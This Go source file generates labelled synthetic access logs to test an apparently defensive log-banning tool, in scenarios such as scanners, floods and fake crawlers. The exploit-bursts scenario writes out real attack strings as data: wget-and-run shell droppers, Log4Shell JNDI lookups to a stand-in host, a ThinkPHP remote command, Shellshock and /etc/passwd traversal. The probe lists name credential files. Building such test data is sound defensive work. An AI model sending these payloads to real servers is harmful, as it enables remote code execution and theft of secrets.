// Package evalgen writes the scenarios of the labelled evaluation (package
// eval) that genlog.py lacks: each is a combined-format access log and its
// truth, the clients that are attackers and those that are good. The
// scenarios are the cases issue 18 names, where a default configuration
// goes wrong:
//
//   - spa: a single-page app answers 200 with its index.html (the same
//     1843 bytes) to every path that is not an asset, a prober's /.env,
//     /.git/config, /wp-login.php and phpunit's eval-stdin.php included;
//     status-based rules never see them.
//   - slow-scanner: two weeks of a site with a /.env prober coming back a
//     few times a day, and a client asking for eval-stdin.php 7 times in
//     10 minutes.
//   - exploit-bursts: a handful of /cgi-bin/, `wget http://…|sh`,
//     Log4Shell `${jndi:` and /boaform/ requests per client, under every
//     rate limit.
//   - admin-burst: an administrator whose heavy web UI loads at some 28
//     requests a second for 2 to 4 seconds (200/304, 4 in 5 of them API
//     calls, not static files), then ordinary use, a few times a day: the
//     false ban issue 18 reports (the old `flood` limit of 20 per second
//     banned it).
//   - heavy-page: ordinary browsers loading pages of 50 to 150 requests in
//     a few seconds, mostly static, 200/304.
//   - monitor: UptimeRobot and Pingdom every minute on / and /health,
//     with two hours where the site answers 503.
//   - crawler-broken-links: Googlebot (from 66.249.66.0/24, its published
//     range) and AhrefsBot (unverified) each fetching some 200 pages in an
//     hour, 30% of them 404 from a list of broken links.
//   - fake-googlebot: Googlebot's user agent from 203.0.113.0/24, scanning.
//   - flood: 40 requests a second that keep going for five minutes.
//
// Every scenario also has ordinary visitors (good), so that a rule that
// bans too widely shows. Addresses are documentation ranges only
// (198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32), and Googlebot's
// published range for the verified crawler; nothing is ever contacted.
//
// The output is deterministic: a fixed PCG seed per scenario, no clock, no
// map order. Times are UTC, from 2026-03-02.
//
// Boundaries: It imports nothing of logjail's (the scenarios must not be
// shaped by the code they test), writes no file itself and reads no clock.
package evalgen

import (
	"bufio"
	"fmt"
	"io"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strings"
	"time"
)

// Start is when every scenario begins.
var Start = time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC)

// Client is one client of a scenario's truth.
type Client struct {
	Addr     netip.Addr
	Attacker bool
	Why      string // what it sent, in one line
}

// Scenario is one generated log and its truth.
type Scenario struct {
	Name  string
	Truth []Client
	lines []line
}

type line struct {
	t       time.Time
	seq     int
	ip      netip.Addr
	method  string
	target  string
	status  int
	bytes   int
	referer string
	ua      string
}

// Lines is how many lines the scenario's log has.
func (s *Scenario) Lines() int { return len(s.lines) }

// Write writes the scenario's log in the combined format, in time order.
func (s *Scenario) Write(w io.Writer) error {
	bw := bufio.NewWriter(w)
	for _, l := range s.lines {
		ref := l.referer
		if ref == "" {
			ref = "-"
		}
		fmt.Fprintf(bw, "%s - - [%s] \"%s %s HTTP/1.1\" %d %d \"%s\" \"%s\"\n",
			l.ip, l.t.Format("02/Jan/2006:15:04:05 -0700"), l.method, l.target, l.status, l.bytes, ref, l.ua)
	}
	return bw.Flush()
}

// builder collects a scenario's lines.
type builder struct {
	s   *Scenario
	rng *rand.Rand
	// override, when set, gives each line's status and size from its
	// time, target and what the client would get otherwise (the SPA's
	// index.html for every path that is no asset, the monitor scenario's
	// two hours of 503).
	override func(t time.Time, target string, status, size int) (int, int)
}

func newBuilder(name string, seed uint64) *builder {
	return &builder{s: &Scenario{Name: name}, rng: rand.New(rand.NewPCG(seed, 18))}
}

func (b *builder) add(t time.Time, ip netip.Addr, method, target string, status, size int, ref, ua string) {
	if b.override != nil {
		status, size = b.override(t, target, status, size)
	}
	b.s.lines = append(b.s.lines, line{t, len(b.s.lines), ip, method, target, status, size, ref, ua})
}

func (b *builder) truth(ip netip.Addr, attacker bool, why string) {
	b.s.Truth = append(b.s.Truth, Client{ip, attacker, why})
}

func (b *builder) done() *Scenario {
	slices.SortStableFunc(b.s.lines, func(x, y line) int {
		if c := x.t.Compare(y.t); c != 0 {
			return c
		}
		return x.seq - y.seq
	})
	slices.SortFunc(b.s.Truth, func(x, y Client) int { return x.Addr.Compare(y.Addr) })
	return b.s
}

// ms is a duration of n milliseconds.
func ms(n int) time.Duration { return time.Duration(n) * time.Millisecond }

var (
	browsers = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
		"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
	}
	pages   = []string{"/", "/about", "/blog", "/blog/2026/02/release-notes", "/blog/2026/01/tuning", "/docs", "/docs/install", "/docs/config", "/pricing", "/contact", "/search?q=logs", "/products/7", "/products/12"}
	statics = []string{"/static/app.js", "/static/vendor.js", "/static/app.css", "/static/logo.svg", "/static/hero.webp", "/favicon.ico", "/static/font.woff2", "/static/chunk-%d.js", "/static/img/p%d.jpg"}
)

func (b *builder) static() string {
	s := statics[b.rng.IntN(len(statics))]
	if strings.Contains(s, "%d") {
		return fmt.Sprintf(s, b.rng.IntN(40))
	}
	return s
}

// visit is an ordinary browser's visit from t: a few pages, each with
// its assets (cached after the first page: 304), seconds to minutes apart.
func (b *builder) visit(ip netip.Addr, t time.Time, ua string, pagesN, assets int) time.Time {
	for p := range pagesN {
		page := pages[b.rng.IntN(len(pages))]
		b.add(t, ip, "GET", page, 200, 4000+b.rng.IntN(20000), "https://example.org/", ua)
		for range assets {
			t = t.Add(ms(5 + b.rng.IntN(60)))
			st := 200
			if p > 0 || b.rng.IntN(3) == 0 {
				st = 304
			}
			b.add(t, ip, "GET", b.static(), st, 500+b.rng.IntN(90000), "https://example.org"+page, ua)
		}
		t = t.Add(time.Duration(5+b.rng.IntN(90)) * time.Second)
	}
	return t
}

// visitors adds n ordinary visitors over [from, from+span), good in the
// truth; the IPv6 ones in 2001:db8:100::/48.
func (b *builder) visitors(n int, from time.Time, span time.Duration) {
	for i := range n {
		var ip netip.Addr
		if i%4 == 3 {
			ip = netip.AddrFrom16([16]byte{0x20, 0x01, 0x0d, 0xb8, 0x01, 0x00, 0, byte(i), 0, 0, 0, 0, 0, 0, 0, 1})
		} else {
			ip = netip.AddrFrom4([4]byte{198, 51, 100, byte(100 + i)})
		}
		ua := browsers[i%len(browsers)]
		visits := 1 + b.rng.IntN(3)
		for range visits {
			t := from.Add(time.Duration(b.rng.Int64N(int64(span))))
			b.visit(ip, t, ua, 2+b.rng.IntN(5), 3+b.rng.IntN(8))
		}
		b.truth(ip, false, fmt.Sprintf("browser: %d visits of a few pages and their assets", visits))
	}
}

func addr(s string) netip.Addr { return netip.MustParseAddr(s) }

// Scenarios returns every scenario, in a fixed order.
func Scenarios() []*Scenario {
	return []*Scenario{spa(), slowScanner(), exploitBursts(), adminBurst(), heavyPage(), monitor(), crawlerBrokenLinks(), fakeGooglebot(), flood()}
}

var probes = []string{
	"/.env", "/.git/config", "/wp-login.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/.aws/credentials", "/.env.production", "/phpinfo.php", "/wp-config.php.bak", "/.git/HEAD",
	"/admin/.env", "/phpmyadmin/index.php", "/server-status",
}

func spa() *Scenario {
	b := newBuilder("spa", 1)
	b.override = func(_ time.Time, target string, st, size int) (int, int) {
		if strings.HasPrefix(target, "/static/") || target == "/favicon.ico" {
			return st, size
		}
		return 200, 1843 // index.html, whatever the path
	}
	b.visitors(24, Start, 6*time.Hour)
	for i, p := range []string{"203.0.113.10", "203.0.113.11", "2001:db8:bad:10::1"} {
		ip := addr(p)
		t := Start.Add(time.Duration(1+i) * time.Hour)
		for _, path := range probes {
			b.add(t, ip, "GET", path, 200, 1843, "", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
			t = t.Add(ms(200 + b.rng.IntN(600)))
		}
		b.truth(ip, true, "GET /.env, /.git/config, /wp-login.php, eval-stdin.php… (12 probes, all answered 200 by the SPA) in ~6 s")
	}
	return b.done()
}

func slowScanner() *Scenario {
	b := newBuilder("slow-scanner", 2)
	days := 14 * 24 * time.Hour
	b.visitors(40, Start, days)
	env := []string{"/.env", "/.env.bak", "/api/.env", "/.env.production", "/backend/.env", "/app/.env", "/.env.local"}
	ip := addr("203.0.113.20")
	n := 0
	for d := range 14 {
		for range 2 + b.rng.IntN(3) {
			t := Start.Add(time.Duration(d)*24*time.Hour + time.Duration(b.rng.Int64N(int64(24*time.Hour))))
			b.add(t, ip, "GET", env[b.rng.IntN(len(env))], 404, 153, "", "Mozilla/5.0 (compatible)")
			n++
		}
	}
	b.truth(ip, true, fmt.Sprintf("GET /.env variants (404), %d over 14 days, a few a day", n))
	ip = addr("203.0.113.21")
	t := Start.Add(3*24*time.Hour + 5*time.Hour)
	for _, pre := range []string{"", "/lib", "/laravel", "/api", "/app", "/public", "/test"} {
		b.add(t, ip, "POST", pre+"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, 153, "", "Custom-AsyncHttpClient")
		t = t.Add(time.Duration(60+b.rng.IntN(30)) * time.Second)
	}
	b.truth(ip, true, "POST …/phpunit/src/Util/PHP/eval-stdin.php 7 times in 10 minutes (404)")
	return b.done()
}

func exploitBursts() *Scenario {
	b := newBuilder("exploit-bursts", 3)
	b.visitors(24, Start, 6*time.Hour)
	bursts := []struct {
		ip, why string
		reqs    []string
		ua      string
	}{
		{"203.0.113.30", "/cgi-bin/ probes: luci, .%2e traversal to /bin/sh, shellshock (4 requests)",
			[]string{"GET /cgi-bin/luci/;stok=/locale?form=country", "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "GET /cgi-bin/test.cgi", "GET /cgi-bin/status"},
			"() { :; }; /bin/bash -c \\\"id\\\""},
		{"203.0.113.31", "shell droppers: /shell?…wget http://…|sh, /boaform/admin/formLogin (3 requests)",
			[]string{"GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/bins.sh;chmod+777+bins.sh;sh+bins.sh", "POST /boaform/admin/formLogin", "GET /HNAP1/"},
			"Hello, world"},
		{"203.0.113.32", "Log4Shell ${jndi:ldap://…} in the path and the user agent (3 requests)",
			[]string{"GET /?x=${jndi:ldap://198.51.100.8:1389/a}", "GET /${jndi:ldap://198.51.100.8:1389/b}", "GET /api?q=${jndi:dns://198.51.100.8/c}"},
			"${jndi:ldap://198.51.100.8:1389/ua}"},
		{"2001:db8:bad:32::7", "ThinkPHP invokefunction with wget http://…|sh, path traversal to /etc/passwd (4 requests)",
			[]string{"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget+http://198.51.100.7/x|sh",
				"GET /../../../../etc/passwd", "GET /static/..%2f..%2f..%2fetc/passwd", "GET /index.php?s=/index/\\think\\Container/invokefunction"},
			"Mozilla/5.0"},
	}
	for i, x := range bursts {
		ip := addr(x.ip)
		t := Start.Add(time.Duration(1+i) * time.Hour)
		for _, r := range x.reqs {
			var m, p string
			fmt.Sscan(r, &m, &p)
			b.add(t, ip, m, p, []int{404, 400, 404, 200}[b.rng.IntN(4)], 162, "", x.ua)
			t = t.Add(ms(300 + b.rng.IntN(3000)))
		}
		b.truth(ip, true, x.why)
	}
	return b.done()
}

func adminBurst() *Scenario {
	b := newBuilder("admin-burst", 4)
	b.visitors(24, Start, 24*time.Hour)
	ip := addr("198.51.100.40")
	ua := browsers[0]
	for _, h := range []int{8, 11, 14, 17, 20} {
		t := Start.Add(time.Duration(h)*time.Hour + time.Duration(b.rng.IntN(1800))*time.Second)
		n := 60 + b.rng.IntN(41) // 2–4 s at ~28/s
		for i := range n {
			var p string
			switch {
			case i == 0:
				p = "/admin/"
			case i%5 != 0: // a web UI of API calls: 4 in 5 are not static
				p = fmt.Sprintf("/admin/api/v1/%s", []string{"status", "users", "jobs", "settings", "stats"}[b.rng.IntN(5)])
			default:
				p = b.static()
			}
			st := 200
			if i > 0 && b.rng.IntN(2) == 0 {
				st = 304
			}
			b.add(t, ip, "GET", p, st, 300+b.rng.IntN(50000), "https://example.org/admin/", ua)
			t = t.Add(ms(25 + b.rng.IntN(20))) // ~28 a second
		}
		for range 20 + b.rng.IntN(20) { // then ordinary use
			t = t.Add(time.Duration(5+b.rng.IntN(25)) * time.Second)
			b.add(t, ip, []string{"GET", "POST"}[b.rng.IntN(2)], fmt.Sprintf("/admin/api/v1/jobs/%d", b.rng.IntN(900)), 200, 812, "https://example.org/admin/", ua)
		}
	}
	b.truth(ip, false, "administrator: 5 loads of a web UI at ~28 requests/s for 2–4 s (200/304, 4 in 5 API calls), then ordinary use")
	return b.done()
}

func heavyPage() *Scenario {
	b := newBuilder("heavy-page", 5)
	for i := range 30 {
		ip := netip.AddrFrom4([4]byte{203, 0, 113, byte(100 + i)})
		if i%5 == 4 {
			ip = netip.AddrFrom16([16]byte{0x20, 0x01, 0x0d, 0xb8, 0x05, 0, 0, byte(i), 0, 0, 0, 0, 0, 0, 0, 1})
		}
		ua := browsers[i%len(browsers)]
		t := Start.Add(time.Duration(b.rng.IntN(6*3600)) * time.Second)
		loads := 1 + b.rng.IntN(3)
		for range loads {
			n := 50 + b.rng.IntN(101)
			dur := 2000 + b.rng.IntN(2000)
			b.add(t, ip, "GET", "/catalogue", 200, 81234, "https://example.org/", ua)
			for j := range n - 1 {
				p := b.static()
				if j%10 == 9 {
					p = fmt.Sprintf("/api/items?page=%d", j/10)
				}
				st := 200
				if b.rng.IntN(3) == 0 {
					st = 304
				}
				b.add(t.Add(ms(j*dur/n)), ip, "GET", p, st, 200+b.rng.IntN(60000), "https://example.org/catalogue", ua)
			}
			t = t.Add(time.Duration(60+b.rng.IntN(600)) * time.Second)
		}
		b.truth(ip, false, fmt.Sprintf("browser: %d loads of a heavy page, 50–150 requests in 2–4 s each, mostly static 200/304", loads))
	}
	return b.done()
}

func monitor() *Scenario {
	b := newBuilder("monitor", 6)
	outFrom, outTo := Start.Add(10*time.Hour), Start.Add(12*time.Hour)
	b.override = func(t time.Time, _ string, st, size int) (int, int) {
		if !t.Before(outFrom) && t.Before(outTo) {
			return 503, 178
		}
		return st, size
	}
	b.visitors(24, Start, 24*time.Hour)
	up, pd := addr("198.51.100.50"), addr("198.51.100.51")
	for m := range 24 * 60 {
		t := Start.Add(time.Duration(m) * time.Minute)
		b.add(t.Add(7*time.Second), up, "HEAD", "/", 200, 0, "", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)")
		b.add(t.Add(8*time.Second), up, "GET", "/health", 200, 2, "", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)")
		b.add(t.Add(31*time.Second), pd, "GET", "/", 200, 15321, "", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)")
	}
	b.truth(up, false, "UptimeRobot: HEAD / and GET /health every minute for a day, 503 for two hours")
	b.truth(pd, false, "Pingdom: GET / every minute for a day, 503 for two hours")
	return b.done()
}

func crawlerBrokenLinks() *Scenario {
	b := newBuilder("crawler-broken-links", 7)
	b.visitors(24, Start, 3*time.Hour)
	for _, c := range []struct {
		ip, ua, why string
	}{
		{"66.249.66.1", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot from its published range 66.249.64.0/19"},
		{"198.51.100.60", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "AhrefsBot (SEO crawler, unverified)"},
	} {
		ip := addr(c.ip)
		t := Start.Add(time.Duration(b.rng.IntN(3600)) * time.Second)
		n, miss := 190+b.rng.IntN(21), 0
		for i := range n {
			if b.rng.IntN(10) < 3 {
				b.add(t, ip, "GET", fmt.Sprintf("/blog/2019/%02d/old-post-%d", 1+i%12, i), 404, 153, "", c.ua)
				miss++
			} else {
				b.add(t, ip, "GET", fmt.Sprintf("/blog/2025/%02d/post-%d", 1+i%12, i), 200, 9000+b.rng.IntN(9000), "", c.ua)
			}
			t = t.Add(time.Duration(8+b.rng.IntN(30)) * time.Second)
		}
		b.truth(ip, false, fmt.Sprintf("%s: %d pages in about an hour, %d of them 404 from broken links", c.why, n, miss))
	}
	return b.done()
}

func fakeGooglebot() *Scenario {
	b := newBuilder("fake-googlebot", 8)
	b.visitors(24, Start, 6*time.Hour)
	ip := addr("203.0.113.70")
	t := Start.Add(2 * time.Hour)
	words := []string{"admin", "backup", "old", "test", "dev", "db", "config", "upload", "install", "api"}
	exts := []string{"", ".zip", ".sql", ".php", ".bak", ".tar.gz"}
	for i := range 150 {
		p := "/" + words[b.rng.IntN(len(words))] + exts[b.rng.IntN(len(exts))]
		if i%15 == 0 {
			p = probes[b.rng.IntN(len(probes))]
		}
		b.add(t, ip, "GET", p, 404, 153, "", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
		t = t.Add(ms(250 + b.rng.IntN(500)))
	}
	b.truth(ip, true, "Googlebot user agent from 203.0.113.70 (not Google's range): 150 guessed paths (404), /.env and /wp-login.php among them, in ~75 s")
	return b.done()
}

func flood() *Scenario {
	b := newBuilder("flood", 9)
	b.visitors(24, Start, 2*time.Hour)
	ip := addr("203.0.113.80")
	t := Start.Add(time.Hour)
	for i := range 40 * 300 {
		p := "/"
		if i%2 == 1 {
			p = fmt.Sprintf("/search?q=%d", b.rng.IntN(100000))
		}
		b.add(t.Add(ms(i*25)), ip, "GET", p, 200, 15321, "", "python-requests/2.31")
	}
	b.truth(ip, true, "GET / and /search?q=… at 40 requests/s for 5 minutes (200)")
	return b.done()
}
